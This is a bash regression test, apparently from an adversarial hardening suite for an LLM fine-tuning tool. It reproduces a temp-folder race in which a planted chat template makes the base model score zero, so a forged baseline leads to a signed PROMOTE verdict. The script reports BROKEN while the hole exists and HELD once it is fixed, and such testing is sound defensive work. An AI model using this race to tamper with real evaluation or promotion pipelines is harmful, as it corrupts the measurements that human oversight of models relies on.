#!/bin/bash
# Round 19 (copied from the round; REPO, PY override).
# r19 b05 (forged PROMOTE; r18 b01's plant on the round-18 fix's own door): inspection/pinned_load.load_pinned (what
# evaluate-model measures a baseline with, and promote decodes the base with on the drift suite; sample-completions'
# pinned_tokenizer likewise) writes the verified non-weight files into tempfile.mkdtemp("llm-finetuning-pinned-") in
# $TMPDIR and then loads the tokenizer with AutoTokenizer.from_pretrained(that folder) BY PATH, with no look at what
# else is in the folder and no check of the tokenizer as loaded (the trainer's held_load + tokenizer_problems are not
# used here). A racer plants additional_chat_templates/default.jinja there (transformers prefers it over the copy's
# chat_template.jinja): the base is measured under a template that drops the question, scores 0, and the baseline is
# filed and signed under the base's content pin. promote-checkpoint then signs PROMOTE for an honest checkpoint
# trained 2 steps from that base, which the same base measured without the plant does not beat.
# Exit 1 while the break exists, 0 once fixed. usage: b05_baseline_template_plant.sh [WS]
set -u
REPO=${REPO:-$(cd "$(dirname "$0")/../.." && pwd)}; PY=${PY:-$REPO/.venv/bin/python}; export PYTHONPATH=$REPO REPO PY
HERE=$(cd "$(dirname "$0")" && pwd)
WS=${1:-/tmp/hostile_r19_b05ws}; export LLM_FINETUNING_STATE_DIR=${WS}_state
export PRE="rm -rf $WS/models/tiny && cp -r $REPO/mcp_server/tiny_warm_start $WS/models/tiny"   # the base: the SFT warm start
R=$(STEPS=2 timeout 900 bash "$REPO/bench/hostile_r16/setup.sh" "$WS" | tail -1) || { echo "setup failed"; exit 2; }
cd "$WS"; export LLM_FINETUNING_WORKSPACE="$WS"; CLI="$PY -m mcp_server.cli"
timeout 600 $CLI launch-training "$R" > launch.log 2>&1; echo "launch rc=$?"
st=none
for i in $(seq 1 120); do
  st=$(timeout 120 $CLI training-status "$R" --json 2>/dev/null | $PY -c 'import json,sys; print(json.load(sys.stdin).get("state"))' 2>/dev/null)
  case "$st" in succeeded|failed|stopped) break;; esac; sleep 5; done
echo "training: $st"; [ "$st" = succeeded ] || exit 2
timeout 900 $CLI evaluate-model "$WS/models/tiny" --goldens tiny --max-new-tokens 48 --baseline never > honest.log 2>&1
echo "the base measured without the plant: $(grep -m1 'passed' honest.log | cut -c1-160)"
mkdir -p "$WS/tmp"; rm -f "$WS.racer.log"
"$PY" "$HERE/plant_pinned.py" "$WS/tmp" "$WS.racer.log" & RACER=$!
sleep 1
TMPDIR="$WS/tmp" timeout 900 $CLI evaluate-model "$WS/models/tiny" --goldens tiny --max-new-tokens 48 > baseline.log 2>&1
echo "baseline with the plant rc=$? $(grep -m1 'passed' baseline.log | cut -c1-160)"
kill $RACER 2>/dev/null; echo "racer: $(tr '\n' ' ' < "$WS.racer.log" | cut -c1-300)"
timeout 900 $CLI promote-checkpoint "$R" > promote.log 2>&1; echo "promote rc=$?"
grep -E '^(PROMOTE|REJECT)|^  goldens:' promote.log | cut -c1-260
v=$("$PY" -c "import json; d=json.load(open('$R/promotion.json')); print(d.get('verdict'), 'mac' in d)" 2>/dev/null)
echo "promotion.json: $v"
[ "$v" = "PROMOTE True" ] && { echo BROKEN; exit 1; }
echo HELD; exit 0
